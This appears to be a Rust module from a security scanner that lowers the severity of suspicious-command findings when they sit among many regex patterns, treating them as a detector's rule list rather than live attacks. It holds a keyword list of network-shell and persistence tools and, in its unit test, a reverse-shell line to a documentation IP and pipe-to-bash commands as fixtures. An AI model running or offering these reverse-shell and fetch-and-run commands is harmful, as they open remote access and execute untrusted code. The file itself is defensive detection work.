//! Texts among the rules of a detector: what a program looks for is not what it does.
//!
//! A program that guards others carries patterns of the commands that it stops, and cases that its rules are tried with. Read
//! as texts of a program these are a shell on a connection, a download that is run, a template that gets out. What tells them
//! apart are the patterns themselves: `curl.*\|\s*bash` is no command, and only what looks for commands has use for a dozen of
//! them. Known uses against us: malware that carries such patterns so that its own texts weigh less; what its code does is
//! followed in code, where nothing is lowered, and a person is still asked to look. Honest look-alikes of the malicious: guards of agents, endpoint protection.

use std::sync::LazyLock;

use aho_corasick::AhoCorasick;

use crate::model::{Confidence, Finding, RuleOrigin, Severity};
use crate::parse::Parsed;
use crate::parse::finder::few;

/// Words of commands that rules look for.
const WORDS: &[&str] = &[
    "curl",
    "wget",
    "bash",
    "eval",
    "exec",
    "system",
    "/dev/tcp",
    "base64",
    "chmod",
    "powershell",
    "netcat",
    "ncat",
    "subprocess",
    "crontab",
    "authorized_keys",
    "sudo",
    "python",
    "mkfifo",
    "socat",
    "passwd",
    "child_process",
    "sudoers",
    "nohup",
    "xmrig",
    "Invoke-",
    "DownloadString",
    "metadata",
    "launchctl",
    "systemctl",
    "scp",
];
/// What stands behind or before such a word in a pattern, and in no command.
const BEHIND: &[&[u8]] = &[b"\\s", b"\\b", b"\\\\s", b"\\\\b", b"\\(", b"\\\\(", b".*", b"[^", b"\\.", b"\\\\."];
const BEFORE: &[&[u8]] = &[b"\\b", b"(?:", b"(?i)", b"\\s+", b"\\s*"];
/// Bytes around a text within which its rule stands, words in patterns that make a list of rules, and different ones.
const WITHIN: usize = 16 << 10;
const PATTERNS: usize = 10;
const DIFFERENT: usize = 5;

/// Why it weighs less. Such findings are no links of a chain.
pub(crate) const AMONG_RULES: &str = "among the rules of a detector";

static SEARCH: LazyLock<Option<AhoCorasick>> = LazyLock::new(|| few(WORDS));

/// Lowers what was read in texts that stand among the rules of a detector. What was seen in code is left as it is.
pub(in crate::analyze) fn brake_rules(file: &Parsed<'_>, findings: &mut [Finding]) {
    if !file.kind().is_executable() {
        return;
    }
    for finding in findings.iter_mut().filter(|f| f.severity >= Severity::High) {
        let of_texts = matches!(finding.rule.origin, RuleOrigin::Signature | RuleOrigin::User)
            || [super::coded::STARTED.id, super::coded::COMMAND.id].contains(&finding.rule.id);
        let mut places = finding.evidence.iter().filter_map(|e| e.span).peekable();
        if of_texts && places.peek().is_some() && places.all(|span| is_among_rules(file.bytes(), span.offset)) {
            // Anybody may carry such patterns: no more is made of it with others, and a person looks at it all the same.
            finding.severity = Severity::High;
            finding.confidence = finding.confidence.min(Confidence::Likely);
            finding.brake = Some(AMONG_RULES);
        }
    }
}

/// Whether patterns of several commands stand around a place.
fn is_among_rules(bytes: &[u8], at: u64) -> bool {
    let Ok(at) = usize::try_from(at) else { return false };
    let end = at.saturating_add(WITHIN).min(bytes.len());
    let Some((near, search)) = bytes.get(at.saturating_sub(WITHIN)..end).zip(SEARCH.as_ref()) else { return false };
    let in_pattern = |start: usize, end: usize| {
        let behind = near.get(end..).unwrap_or_default();
        let before = near.get(..start).unwrap_or_default();
        BEHIND.iter().any(|mark| behind.starts_with(mark)) || BEFORE.iter().any(|mark| before.ends_with(mark))
    };
    let mut found = 0;
    let mut different = std::collections::BTreeSet::new();
    for hit in search.find_iter(near).filter(|hit| in_pattern(hit.start(), hit.end())) {
        found += 1;
        different.insert(hit.pattern());
        if found >= PATTERNS && different.len() >= DIFFERENT {
            return true;
        }
    }
    false
}

#[cfg(test)]
mod tests {
    use super::*;

    const RULES: &str = r#"(?i)\bwget\s+-q\b|curl.*\|\s*(?:bash|zsh) eval\s*\( exec\s*\( os\.system\s*\( chmod\s+\+x \bcrontab\s+-r
        base64\s+-d \bsudo\s+-n subprocess\.call \bsocat\b.{0,40}exec "#;

    #[test]
    fn a_command_among_patterns_of_commands_is_a_rule_of_a_detector() {
        let command = "bash -i >& /dev/tcp/203.0.113.4/9 0>&1";
        let at = |text: &str| text.find("/dev/tcp").unwrap() as u64;
        let guard = format!("{RULES} case: {command}\0");
        assert!(is_among_rules(guard.as_bytes(), at(&guard)));
        // Commands of its own, however many, are no patterns.
        let own = "curl -s x | bash\0wget -q y\0eval \"$z\"\0exec sh\0chmod +x a\0crontab -r\0sudo -n b\0".repeat(9);
        let own = format!("{own}{command}\0");
        assert!(!is_among_rules(own.as_bytes(), at(&own)));
        // A list that stands elsewhere says nothing of this text.
        let far = format!("{RULES}{}{command}\0", "\0".repeat(WITHIN * 2));
        assert!(!is_among_rules(far.as_bytes(), at(&far)));
        // Patterns of one command are a parser's.
        let one = format!("{}{command}\0", r"\bpython\s+".repeat(40));
        assert!(!is_among_rules(one.as_bytes(), at(&one)));
    }
}
